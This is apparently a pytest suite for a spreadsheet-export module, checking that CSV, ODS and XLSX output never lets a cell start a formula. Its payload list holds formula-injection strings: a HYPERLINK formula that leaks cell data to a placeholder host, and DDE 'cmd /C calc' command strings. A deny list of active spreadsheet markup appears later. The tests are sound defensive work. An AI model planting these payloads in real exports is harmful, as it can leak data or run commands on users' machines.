"""No cell starts a formula, in any of the formats: a corpus of attacks is written and read back by other programs."""

import csv
import io
import re
import unicodedata
import zipfile
from collections.abc import Callable
from xml.etree import ElementTree as ET

import pytest
from hypothesis import given
from hypothesis import strategies as st
from odfdo import Document
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from foundation import tabular
from foundation.tabular import BOM, Sheet, as_typed, csv_bytes, harmless, ods_bytes, xlsx_bytes

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹢", "⁼")
LEADS = (
    "", " ", "\u3000", "\ufeff", "\u200b", "\u2060", '"', "'", "''", "“", "\t", "\r", "\n", "\r\n", "\x00",
    "a,", "a;", "a|",
)  # fmt: skip
PAYLOADS = (
    *(f"{lead}{sign}1+1" for lead in LEADS for sign in SIGNS),
    '=HYPERLINK("http://leak.example/?x="&A1,"點我")', "=cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
    '=DDE("cmd";"/C calc")', "+1+cmd|' /C calc'!A0", '王小明","=1+1', "王小明;=1+1", "=1+1\n=2+2", "_x003D_1+1",
    "\t", "\tx", "'\tx", "\n", "-", "+",
)  # fmt: skip
DULL = (
    "王小明", "0912345678", "00090001", "a-b", "1-1", "𠮷㐂堃", "a  b", " 前後 ", "", "'", "O'Neil",
    "第1行\n第2行", "007",
)  # fmt: skip
SEPARATORS = ",;|\t\r\n"


def sheet(*texts: str) -> Sheet:
    return Sheet("表", ["欄"], [[text] for text in texts])


def from_csv(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode().removeprefix(BOM), newline=""))
    return [row[0] if row else "" for row in rows][1:]


def starts_a_formula(text: str) -> bool:
    """What a spreadsheet may see after it dropped what it overlooks, told in other words than the product's own."""
    for part in re.split(f"[{SEPARATORS}]", text):
        seen = "".join(c for c in part if not c.isspace() and unicodedata.category(c)[0] != "C")
        if unicodedata.normalize("NFKC", seen.lstrip('"“”'))[:1] in {"=", "+", "-", "@"}:
            return True
    return text[:1] in {"\t", "\r", "\n"}


@pytest.mark.parametrize("text", PAYLOADS)
def test_csv_starts_no_formula(text: str) -> None:
    [read] = from_csv(csv_bytes(sheet(text)))
    assert not starts_a_formula(read)
    assert as_typed(read) == text


@pytest.mark.parametrize("text", DULL)
def test_csv_leaves_the_rest_alone(text: str) -> None:
    assert harmless(text) == text


@given(st.text(st.sampled_from("=+-@＝－'\" \t\r\n,;|ab王\u200b\ufeff"), max_size=12))
def test_what_was_typed_comes_back(text: str) -> None:
    assert as_typed(harmless(text)) == text
    assert not starts_a_formula(harmless(text))


def plain(text: str) -> str:
    """What a package of XML can hold: no control characters, every end of line LF."""
    kept = text.replace("\r\n", "\n").replace("\r", "\n")
    return "".join(c for c in kept if c in "\t\n" or c >= " ")


@pytest.mark.parametrize("text", [*PAYLOADS, *DULL])
def test_ods_holds_text(text: str) -> None:
    content = ods_bytes(sheet(text))
    cell = Document(io.BytesIO(content)).body.tables[0].get_cell((0, 1))
    assert (cell.type, cell.formula) == ("string", None)
    assert ods_text(content) == plain(text)


def ods_text(content: bytes) -> str:
    """By the letter of the format: lines are paragraphs, runs of spaces and tabs are elements."""
    root = ET.fromstring(zipfile.ZipFile(io.BytesIO(content)).read("content.xml"))
    text = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"

    def said(element: ET.Element) -> str:
        own = {f"{text}s": " " * int(element.get(f"{text}c", 1)), f"{text}tab": "\t"}.get(
            element.tag, element.text or ""
        )
        return own + "".join(said(child) + (child.tail or "") for child in element)

    [_, cell] = root.iter("{urn:oasis:names:tc:opendocument:xmlns:table:1.0}table-cell")
    return "\n".join(said(paragraph) for paragraph in cell)


@pytest.mark.parametrize("text", [*PAYLOADS, *DULL])
def test_xlsx_holds_text(text: str) -> None:
    cell = load_workbook(io.BytesIO(xlsx_bytes(sheet(text)))).active["A2"]
    assert cell.data_type == "s" or (cell.value is None and not plain(text))
    assert unescape(cell.value or "") == plain(text)
    assert (cell.number_format, cell.quotePrefix) == ("@", True)


@pytest.mark.parametrize("write", [ods_bytes, xlsx_bytes])
def test_a_package_holds_nothing_that_acts(write: Callable[..., bytes]) -> None:
    with zipfile.ZipFile(io.BytesIO(write(sheet(*PAYLOADS), sheet("二")))) as box:
        assert box.testzip() is None
        parts = {name: box.read(name).decode() for name in box.namelist()}
    everything = "".join(parts.values())
    for word in (
        "table:formula",
        "<f>",
        "<f ",
        "hyperlink r:id",
        "externalLink",
        "vbaProject",
        "xlink:href",
        "ddeLink",
    ):
        assert word not in everything
    for name, text in parts.items():
        if name != "mimetype":
            ET.fromstring(text)


def test_the_signs_are_all_of_their_kind() -> None:
    """Whatever a program may fold into one of the four signs is one of ours."""
    folded = [chr(n) for n in range(0x10000) if unicodedata.normalize("NFKC", chr(n)) in {"=", "+", "-", "@"}]
    assert not [sign for sign in folded if harmless(sign) == sign]


def test_numbers_stay_numbers_and_days_days() -> None:
    from datetime import date
    from decimal import Decimal

    rows = [[-3, 0.25, Decimal("1.5"), date(2026, 5, 3), None]]
    [_, read] = load_workbook(io.BytesIO(xlsx_bytes(Sheet("表", list("abcde"), rows)))).active.iter_rows()
    assert [cell.value for cell in read][:3] == [-3, 0.25, 1.5]
    assert read[3].value.date() == date(2026, 5, 3)
    assert read[4].value is None
    table = Document(io.BytesIO(ods_bytes(Sheet("表", list("abcde"), rows)))).body.tables[0]
    assert [cell.type for cell in table.get_row(1).get_cells()][:4] == ["float", "float", "float", "date"]


def test_lines_above_and_below() -> None:
    """Every format has them, as text."""
    stamped = Sheet("表", ["欄"], [["值"]], notes=["=下"], lead=["=上"])
    assert from_csv(csv_bytes(stamped)) == ["欄", "值", "'=下"]
    for write in (ods_bytes, xlsx_bytes):
        assert len(list(stamped.lines())) == 4
        assert write(stamped)
    rows = list(load_workbook(io.BytesIO(xlsx_bytes(stamped))).active.iter_rows(values_only=True))
    assert rows == [("=上",), ("欄",), ("值",), ("=下",)]


def test_ten_thousand_rows_take_a_moment() -> None:
    """odfdo took a minute for them; a download must not."""
    import time

    many = Sheet("表", list("abcdefgh"), [[f"值{n}"] * 8 for n in range(10_000)])
    started = time.perf_counter()
    assert tabular.ods_bytes(many)
    assert time.perf_counter() - started < 8
